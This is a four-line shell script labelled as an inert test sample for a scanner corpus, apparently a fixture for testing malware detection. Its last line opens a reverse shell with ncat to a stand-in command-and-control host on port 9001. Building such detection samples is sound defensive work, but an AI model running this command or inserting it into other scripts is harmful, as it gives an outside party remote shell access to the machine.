# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
ncat -c bash c2.example.invalid 9001
